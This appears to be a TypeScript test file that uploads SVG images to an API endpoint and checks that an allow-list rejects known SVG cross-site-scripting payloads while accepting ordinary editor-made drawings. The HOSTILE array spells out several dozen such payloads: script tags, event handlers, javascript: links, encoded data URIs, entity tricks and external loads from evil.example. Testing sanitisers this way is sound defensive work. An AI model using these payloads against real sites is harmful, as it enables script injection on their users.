// Issue 13 item 4 (SECURITY row 12): an uploaded SVG passes a parsed allow-list. Known SVG XSS
// payloads (OWASP, PortSwigger and HackerOne reports) are refused with 422; ordinary drawings,
// including editor output with metadata namespaces, embedded PNGs and gradients, are accepted.
import { beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, makeApp, type TestApp } from '../setup/app';

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await makeApp();
  admin = await t.login(ADMIN.email, ADMIN.password);
});

const S = (inner: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${inner}</svg>`;
const PNG_URI =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP4//8/AwAI/AL+p5qgoAAAAABJRU5ErkJggg==';

export const HOSTILE: string[] = [
  S('<script>alert(1)</script>'),
  S('', ' onload="alert(1)"'),
  S('<g onclick="alert(1)"><rect width="5" height="5"/></g>'),
  S('<rect width="5" height="5" ONMOUSEOVER="alert(1)"/>'),
  S(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  ),
  S('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
  S('<a href="jav&#x09;ascript:alert(1)"><rect width="5" height="5"/></a>'),
  S('<animate attributeName="href" values="javascript&#58;alert(1)"/>'),
  S('<set attributeName="onmouseover" to="alert(1)"/>'),
  S('<set attributeName="xlink:href" to="#x"/>'),
  S('<animate attributeName="HREF" values="#a;#b" dur="1s"/>'),
  S('<animate attributeName=" href" from="#a" to="#b" dur="1s"/>'),
  S('<animate attributeName="x" dur="1s" onbegin="alert(1)"/>'),
  S('<set attributeName="fill" to="&#106;avascript:alert(1)"/>'),
  S(
    '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/>',
  ),
  S('<use xlink:href="https://evil.example/sprite.svg#icon"/>'),
  S('<image href="javascript:alert(1)"/>'),
  S('<image href="https://evil.example/track.png" width="1" height="1"/>'),
  S('<image xlink:href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/>'),
  S('<feImage href="https://evil.example/x.png"/>'),
  S('<style>@import url(https://evil.example/x.css);</style>'),
  S('<style><![CDATA[rect{fill:url(https://evil.example/a)}]]></style>'),
  S('<rect width="5" height="5" style="fill:url(&quot;https://evil.example/a&quot;)"/>'),
  S('<rect width="5" height="5" fill="url(javascript:alert(1))"/>'),
  S('<style>rect{background:u\\72 l(https://evil.example/a)}</style>'),
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${S('&x;')}`,
  `<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`,
  S('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'),
  S('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  S('<inkscape:x xmlns:inkscape="http://www.w3.org/1999/xhtml"/>'),
  `<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>`,
  S('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  S('<iframe src="javascript:alert(1)"/>'),
  S('<embed src="javascript:alert(1)"/>'),
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${S('<rect/>')}`,
  S('<textPath href="https://evil.example/p.svg#p">x</textPath>'),
  S('<rect xml:base="javascript:alert(1)//" width="1" height="1"/>'),
  S('<discard onbegin="alert(1)"/>'),
  S('<a href="#x"><rect width="5" height="5"/></a><script href="data:,alert(1)"/>'),
  S('<rect width="5" height="5" style="behavior:url(#default#VML)"/>'),
  S('<rect width="5" height="5" style="-moz-binding:url(https://evil.example/x.xml#x)"/>'),
  S('<rect width=5 height="5" onload=alert(1)/>'),
];

const BENIGN: string[] = [
  S('<rect width="2" height="2" fill="#800"/>', ' width="2" height="2"'),
  `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape (http://www.inkscape.org/) -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="100" height="100" viewBox="0 0 100 100" version="1.1" sodipodi:docname="logo.svg" inkscape:version="1.2">\n  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="1.4"/>\n  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:title>Logo &amp; marca</dc:title></cc:Work></rdf:RDF></metadata>\n  <g inkscape:label="Capa 1" inkscape:groupmode="layer" id="layer1"><circle cx="50" cy="50" r="40" style="fill:#1e88e5;stroke:#0d47a1;stroke-width:2"/></g>\n</svg>`,
  S(
    '<defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#f00"/><stop offset="1" stop-color="#00f"/></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs><rect width="10" height="10" fill="url(#g)" filter="url(#f)"/>',
    ' viewBox="0 0 10 10"',
  ),
  S(
    `<image width="1" height="1" href="${PNG_URI}"/><use xlink:href="#c"/><circle id="c" cx="1" cy="1" r="1" class="punto"/><style>.punto { fill: rgb(10, 20, 30); }</style>`,
  ),
  S(
    '<text x="1" y="10" font-family="Arial" data-name="título">Hola &#233; &lt;3</text><animate attributeName="opacity" values="0;1" dur="2s" repeatCount="indefinite"/><animateTransform attributeName="transform" type="rotate" from="0" to="360" dur="3s"/>',
  ),
];

function upload(svg: string) {
  const form = new FormData();
  form.append('files', new File([svg], 'dibujo.svg', { type: 'image/svg+xml' }));
  return t.request('POST', '/api/v1/general/perfilmedia', { cookie: admin, raw: form });
}

describe('SVG allow-list', () => {
  it(`refuses ${HOSTILE.length} known SVG XSS payloads with 422 and stores none`, async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
    const wrong: string[] = [];
    for (const svg of HOSTILE) {
      const res = await upload(svg);
      // 415 when the file is not even recognised as an SVG (a DTD subset or a stylesheet first).
      const refused =
        res.status === 415 ||
        (res.status === 422 &&
          res.json?.errors?.archivo?.[0] === 'La imagen SVG contiene contenido no permitido');
      if (!refused) wrong.push(`${res.status} ${svg.slice(103, 200)}`);
    }
    expect(wrong).toEqual([]);
    expect((await t.request('GET', '/api/v1/general/perfilmedia', { cookie: admin })).json.data).toHaveLength(
      0,
    );
  });

  it('accepts ordinary drawings (editor metadata, gradients, filters, embedded PNG, harmless animation)', async () => {
    for (const svg of BENIGN) expect((await upload(svg)).status, svg).toBe(201);
  });
});
